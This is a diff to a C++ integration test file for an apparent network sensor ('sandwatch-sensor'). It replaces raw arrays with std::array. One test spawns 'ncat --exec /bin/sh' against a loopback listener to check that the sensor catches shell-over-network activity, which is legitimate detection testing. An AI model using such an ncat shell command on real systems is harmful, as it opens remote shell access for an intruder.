@@ -6,6 +6,7 @@
 #include <sys/wait.h>
 #include <unistd.h>
 
+#include <array>
 #include <filesystem>
 #include <fstream>
 #include <thread>
@@ -141,8 +142,8 @@ TEST(SensorIntegration, NcatExecToALoopbackListener) {
   if (std::system("command -v ncat >/dev/null 2>&1") != 0) GTEST_SKIP() << "ncat not installed";
   SensorProcess sensor({"--capture", "poll"});
   int port = FreePort();
-  int keep[2];
-  ASSERT_EQ(::pipe(keep), 0);  // the listener's stdin stays open while the test runs
+  std::array<int, 2> keep{};
+  ASSERT_EQ(::pipe(keep.data()), 0);  // the listener's stdin stays open while the test runs
   pid_t listener = Spawn({"ncat", "-l", "127.0.0.1", std::to_string(port)}, keep[0]);
   ASSERT_TRUE(sensor.WaitFor([&] { return Listening(port); }));
   pid_t client = Spawn({"ncat", "--exec", "/bin/sh", "127.0.0.1", std::to_string(port)});
@@ -177,8 +178,8 @@ TEST(SensorIntegration, CustomRulesFileCatchesAnOutboundConnection) {
   // A service port below the ephemeral range, as a real listener would have.
   int port = 20000 + ::getpid() % 10000;
   for (int i = 0; i < 100 && Listening(port); ++i) ++port;
-  int keep[2];
-  ASSERT_EQ(::pipe(keep), 0);
+  std::array<int, 2> keep{};
+  ASSERT_EQ(::pipe(keep.data()), 0);
   pid_t listener = Spawn({"ncat", "-l", "127.0.0.1", std::to_string(port)}, keep[0]);
   ASSERT_TRUE(sensor.WaitFor([&] { return Listening(port); }));
   pid_t client = Spawn({"ncat", "127.0.0.1", std::to_string(port)}, keep[0]);
@@ -295,8 +296,8 @@ TEST(SensorIntegration, ExitCodesForFlags) {
   std::string msg;
   {
     FILE* p = ::popen((BinDir() + "/sandwatch-sensor --rules " + path + " 2>&1").c_str(), "r");
-    char buf[512];
-    while (fgets(buf, sizeof buf, p)) msg += buf;
+    std::array<char, 512> buf{};
+    while (fgets(buf.data(), static_cast<int>(buf.size()), p)) msg += buf.data();
     ::pclose(p);
   }
   EXPECT_NE(msg.find("rule 'broken': when.cmdline"), std::string::npos) << msg;
